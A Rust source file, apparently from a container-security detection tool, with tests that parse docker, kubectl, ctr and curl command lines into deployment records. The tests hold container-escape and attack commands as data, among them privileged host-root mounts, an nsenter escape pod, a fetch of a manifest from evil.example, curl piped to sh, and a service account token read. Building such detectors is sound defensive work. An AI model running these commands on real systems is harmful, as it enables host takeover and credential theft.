fn split_url(url: &str) -> (Option<String>, String) {
    let rest = url.split_once("://").map_or(url, |(_, r)| r);
    match rest.find('/') {
        Some(i) => {
            let host = &rest[..i];
            let host = (!host.is_empty() && host != "localhost" && host != "docker")
                .then(|| host.to_string());
            (host, rest[i..].to_string())
        }
        None => (Some(rest.to_string()), "/".into()),
    }
}

/// `/v1.41/containers/create` → `/containers/create`.
pub fn strip_version(path: &str) -> &str {
    crate::docker_route::strip_version(path)
}

/// A process record's deployment skeleton: origin, time, actor, process.
pub fn process_base(
    origin: Origin,
    time: Option<String>,
    user: Option<String>,
    process: ProcessInfo,
) -> Deployment {
    Deployment {
        origin,
        time,
        actor: portcullis_model::Actor {
            user,
            ..Default::default()
        },
        process: Some(process),
        ..Deployment::default()
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn run(line: &str) -> Vec<Deployment> {
        let argv = shlex::split(line).expect("test line splits");
        let base = process_base(
            Origin::default(),
            None,
            None,
            ProcessInfo {
                command_line: line.into(),
                argv: argv.clone(),
                ..Default::default()
            },
        );
        analyze(&argv, &base)
    }

    #[test]
    fn docker_run_in_every_spelling() {
        for line in [
            "docker run --privileged -v /:/host alpine",
            "sudo /usr/bin/docker -H tcp://10.0.0.5:2375 container run -itd --privileged=true --volume=/:/host alpine sh",
            "bash -c 'cd /tmp; docker run --rm --mount type=bind,src=/,dst=/host --privileged alpine'",
            "podman run --privileged -v /:/host:ro alpine",
        ] {
            let d = run(line);
            assert_eq!(d.len(), 1, "{line}");
            let c = &d[0].pod.as_ref().expect("pod").containers[0];
            assert_eq!(c.security_context.privileged, Some(true), "{line}");
            assert_eq!(c.image.repository(), "library/alpine", "{line}");
            assert_eq!(
                c.mounts[0].host_path.as_ref().map(|h| h.path.as_str()),
                Some("/"),
                "{line}"
            );
        }
        let d = run(
            "docker -H tcp://10.0.0.5:2375 run --pid host --net=host --cap-add ALL --device /dev/sda --security-opt seccomp=unconfined -p 4444:4444 alpine nc -l",
        );
        let p = d[0].pod.as_ref().expect("pod");
        assert!(p.host_pid && p.host_network);
        assert_eq!(d[0].endpoint.as_deref(), Some("tcp://10.0.0.5:2375"));
        let c = &p.containers[0];
        assert_eq!(c.security_context.cap_add, vec!["ALL"]);
        assert_eq!(c.devices, vec!["/dev/sda"]);
        assert_eq!(c.args, vec!["nc", "-l"]);
        assert_eq!(c.ports[0].host_port, Some(4444));
    }

    #[test]
    fn words_that_only_mention_tools_do_not_deploy() {
        for line in [
            "git commit -m 'docker run --privileged -v /:/host alpine'",
            "grep -r 'docker run' .",
            "man docker-run",
            "echo docker run --privileged alpine",
            "docker ps -a",
            "kubectl get pods -A",
            "docker --help",
        ] {
            assert!(run(line).is_empty(), "{line}");
        }
    }

    #[test]
    fn kubectl_run_overrides_are_judged() {
        let d = run(
            r#"kubectl --context kind-atomic-cluster run atomic-nsenter-escape-pod --restart=Never -ti --rm --image alpine --overrides '{"spec":{"hostPID": true, "containers":[{"name":"1","image":"alpine","command":["nsenter","--mount=/proc/1/ns/mnt","--","/bin/bash"],"stdin": true,"tty":true,"securityContext":{"privileged":true}}]}}'"#,
        );
        assert_eq!(d.len(), 1);
        let p = d[0].pod.as_ref().expect("pod");
        assert!(p.host_pid);
        assert_eq!(p.containers.len(), 1);
        assert_eq!(p.containers[0].security_context.privileged, Some(true));
        assert_eq!(p.containers[0].command[0], "nsenter");
        assert_eq!(
            d[0].endpoint.as_deref(),
            Some("context:kind-atomic-cluster")
        );
    }

    #[test]
    fn kubectl_debug_node_and_apply() {
        let d = run("kubectl debug node/worker-1 -it --image=ubuntu --profile=sysadmin");
        let p = d[0].pod.as_ref().expect("pod");
        assert!(p.host_pid && p.host_network);
        assert_eq!(p.node_name.as_deref(), Some("worker-1"));
        assert_eq!(p.containers[0].security_context.privileged, Some(true));
        assert_eq!(
            p.containers[0].mounts[0]
                .host_path
                .as_ref()
                .map(|h| h.path.as_str()),
            Some("/")
        );
        let d = run("kubectl apply -f https://evil.example/ds.yaml -n kube-system");
        assert_eq!(d[0].target.kind, "Manifest");
        assert_eq!(
            d[0].target.name.as_deref(),
            Some("https://evil.example/ds.yaml")
        );
        assert_eq!(d[0].target.namespace.as_deref(), Some("kube-system"));
        let d = run("kubectl create deployment web --image=nginx -- sh -c 'curl x|sh'");
        assert_eq!(d[0].target.kind, "Deployment");
        let d = run(
            "kubectl exec -it web-0 -- cat /var/run/secrets/kubernetes.io/serviceaccount/token",
        );
        assert_eq!(d[0].operation, Operation::Exec);
        let d = run(
            r#"kubectl patch deployment web -p '{"spec":{"template":{"spec":{"containers":[{"name":"web","securityContext":{"privileged":true}}]}}}}'"#,
        );
        assert_eq!(d[0].operation, Operation::Patch);
        assert_eq!(
            d[0].pod.as_ref().expect("pod").containers[0]
                .security_context
                .privileged,
            Some(true)
        );
    }

    #[test]
    fn curl_to_the_docker_socket_is_a_create_request() {
        let d = run(
            r#"curl -s --unix-socket /var/run/docker.sock -X POST -H 'Content-Type: application/json' -d '{"Image":"alpine","Cmd":["sh"],"HostConfig":{"Binds":["/:/host"],"Privileged":true}}' http://localhost/v1.41/containers/create?name=x"#,
        );
        assert_eq!(d.len(), 1);
        assert_eq!(
            d[0].endpoint.as_deref(),
            Some("unix:///var/run/docker.sock")
        );
        assert_eq!(d[0].target.name.as_deref(), Some("x"));
        let c = &d[0].pod.as_ref().expect("pod").containers[0];
        assert_eq!(c.security_context.privileged, Some(true));
        let d = run("curl -X POST http://10.0.0.5:2375/containers/abc/start");
        assert_eq!(d[0].operation, Operation::Start);
        assert_eq!(d[0].endpoint.as_deref(), Some("tcp://10.0.0.5:2375"));
        assert!(run("curl https://example.com/index.html").is_empty());
    }

    #[test]
    fn ctr_and_builds() {
        let d = run(
            "ctr -n k8s.io run --privileged --net-host --mount type=bind,src=/,dst=/host,options=rbind:rw docker.io/library/alpine:latest esc sh",
        );
        let p = d[0].pod.as_ref().expect("pod");
        assert!(p.host_network);
        assert_eq!(p.containers[0].security_context.privileged, Some(true));
        assert_eq!(
            p.containers[0].mounts[0]
                .host_path
                .as_ref()
                .map(|h| h.path.as_str()),
            Some("/")
        );
        let d = run("docker build -t t1610 /atomics/T1610/src/");
        assert_eq!(d[0].target.kind, "DockerBuild");
        assert_eq!(d[0].target.name.as_deref(), Some("t1610"));
        assert!(!d[0].pod.as_ref().expect("pod").host_network);
        let d = run("docker build --network=host -t t1610 .");
        assert!(d[0].pod.as_ref().expect("pod").host_network);
        let d = run(
            "docker service create --mode global --name x --mount type=bind,source=/,target=/host alpine",
        );
        assert_eq!(d[0].target.kind, "SwarmService");
    }
}
